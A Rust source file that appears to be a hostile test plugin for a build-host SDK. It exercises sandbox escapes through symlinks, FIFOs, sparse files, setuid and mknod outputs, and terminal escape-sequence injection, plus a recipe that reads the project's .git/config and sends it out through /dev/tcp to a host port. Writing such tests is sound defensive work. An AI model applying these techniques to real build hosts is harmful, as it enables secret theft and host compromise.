//! A hostile platform (declares container, image-network and publish, so a
//! file run directly is granted all three). Its `attack` option picks one
//! attack on what the host touches on its behalf; `target` is a host path
//! the attack aims at (a secret to read, a directory to write into), and
//! `port` a host TCP port to send stolen bytes to.
use hostbuild_sdk::host::{artifacts, workspace};
use hostbuild_sdk::*;

struct HostileFiles;

const ATTACKS: &[&str] = &[
    "none",
    "publish-symlink",
    "publish-through-dir-link",
    "publish-fifo",
    "fetch-through-dir-link",
    "fetch-over-symlink",
    "read-fifo",
    "write-over-symlink",
    "artifact-escapes",
    "artifact-symlink",
    "artifact-fifo",
    "artifact-sparse",
    "setuid-output",
    "mknod-output",
    "image-base",
    "image-foreign",
    "image-allowed",
    "exfiltrate-build",
    "escapes",
];

fn step(script: &str) -> Result<StepOutcome> {
    Step::new("plant", "main", ["sh", "-c", script]).mount(Volume::Output, "/out").run_checked()
}

fn store<T>(what: &str, r: std::result::Result<T, artifacts::StoreError>) -> Result<T> {
    r.map_err(|e| Error::failed(format!("{what}: {e:?}")))
}

impl Platform for HostileFiles {
    fn describe() -> Description {
        Description::new("hostile-files", "0.1.0", "Attacks what the host touches on its behalf")
            .option(OptionSpec::choice("attack", "Which attack", ATTACKS).default("none"))
            .option(OptionSpec::text("target", "A host path to aim at").default(""))
            .option(OptionSpec::text("port", "A host TCP port to send to").default("0"))
            .option(OptionSpec::text("reference", "An image reference to report").default(""))
            .needs_container()
            .needs_image_network()
            .needs_publish()
    }

    fn image(options: &Options) -> Result<Vec<ImageRecipe>> {
        let mut main = ImageRecipe::new("main", "hostbuild/bookworm:amd64");
        if options.text("attack") == Some("exfiltrate-build") {
            main = exfiltrate(main, options)?;
        }
        Ok(vec![main])
    }

    fn build(ctx: &Context) -> Result<BuildReport> {
        let target = ctx.options.text("target").unwrap_or_default().to_string();
        let attack = ctx.options.text("attack").unwrap_or("none");
        let report = BuildReport::new().step(attack);
        match attack {
            "publish-symlink" => {
                step(&format!("ln -sfn '{target}' /out/leak"))?;
                store("publish", artifacts::publish("leak", "stolen"))?;
            }
            "publish-through-dir-link" => {
                step("ln -sfn / /out/root")?;
                store("publish", artifacts::publish(&format!("root{target}"), "stolen"))?;
            }
            "publish-fifo" => {
                step("mkfifo /out/pipe")?;
                store("publish", artifacts::publish("pipe", "stolen"))?;
            }
            "fetch-through-dir-link" => {
                workspace::write("payload", b"planted by the plugin").map_err(|e| Error::failed(format!("{e:?}")))?;
                store("publish", artifacts::publish("payload", "payload"))?;
                step(&format!("ln -sfn '{target}' /out/d"))?;
                store("fetch", artifacts::fetch("payload", "d/planted"))?;
            }
            "fetch-over-symlink" => {
                workspace::write("payload", b"planted by the plugin").map_err(|e| Error::failed(format!("{e:?}")))?;
                store("publish", artifacts::publish("payload", "payload"))?;
                step(&format!("ln -sfn '{target}' /out/f"))?;
                store("fetch", artifacts::fetch("payload", "f"))?;
                return Ok(report.note("fetched over the planted link"));
            }
            "read-fifo" => {
                step("mkfifo /out/pipe")?;
                let r = workspace::read(workspace::Tree::Output, "pipe");
                return Err(Error::failed(format!("read: {r:?}")));
            }
            "write-over-symlink" => {
                step(&format!("ln -sfn '{target}' /out/w"))?;
                workspace::write("w", b"overwritten by the plugin").map_err(|e| Error::failed(format!("{e:?}")))?;
                return Ok(report.note("wrote over the planted link"));
            }
            "artifact-symlink" => {
                step(&format!("ln -sfn '{target}' /out/lib.so"))?;
            }
            "artifact-fifo" => {
                // A FIFO is caught by the scan of the output tree first.
                step("mkfifo /out/lib.so")?;
            }
            "artifact-sparse" => {
                step("truncate -s 1T /out/lib.so")?;
            }
            "setuid-output" => {
                step("cp /bin/true /out/helper && chmod u+s /out/helper")?;
            }
            "escapes" => {
                // Rewrite the title, clear the screen, move the cursor, ring,
                // erase what was printed: through the log and through a step.
                hostbuild_sdk::host::info("\u{1b}]0;pwned title\u{7}\u{1b}[2J\u{1b}[Hplugin says hi\u{8}\u{8}\u{7}");
                step(r"printf '\033[31mred step\033[0m \033]52;c;ZXZpbA==\007 bell\007 gone\r\033[2Kshown\n'")?;
                return Ok(report.note("\u{1b}[5mblinking note\u{1b}[0m"));
            }
            "mknod-output" => {
                let outcome = Step::new("mknod", "main", ["sh", "-c", "mknod /out/disk b 8 0; echo mknod=$?"])
                    .mount(Volume::Output, "/out")
                    .run()?;
                return Ok(report.note(&outcome.tail.join(" ")));
            }
            _ => {}
        }
        Ok(report)
    }

    fn detect_artifacts(ctx: &Context) -> Result<Vec<Artifact>> {
        let target = ctx.options.text("target").unwrap_or_default();
        let reference = ctx.options.text("reference").unwrap_or_default();
        Ok(match ctx.options.text("attack").unwrap_or("none") {
            "artifact-escapes" => vec![Artifact::new(target, ArtifactRole::Primary)],
            "artifact-symlink" | "artifact-fifo" | "artifact-sparse" => {
                vec![Artifact::new("lib.so", ArtifactRole::Primary)]
            }
            "image-base" | "image-foreign" | "image-allowed" => {
                vec![Artifact::new(reference, ArtifactRole::Image).property("image", "main")]
            }
            _ => Vec::new(),
        })
    }
}

/// A recipe whose RUN line sends the project's `.git/config` (read through
/// the workspace, as recipes may) to a host port.
fn exfiltrate(recipe: ImageRecipe, options: &Options) -> Result<ImageRecipe> {
    let port = options.text("port").unwrap_or("0");
    let host = options.text("target").unwrap_or("172.17.0.1");
    let secret = workspace::read(workspace::Tree::Source, ".git/config").unwrap_or_default();
    Ok(recipe.file("stolen", secret).run(&format!(
        "COPY stolen /stolen\nRUN bash -c 'cat /stolen > /dev/tcp/{host}/{port}' && echo SENT || echo BLOCKED"
    )))
}

export_platform!(HostileFiles);
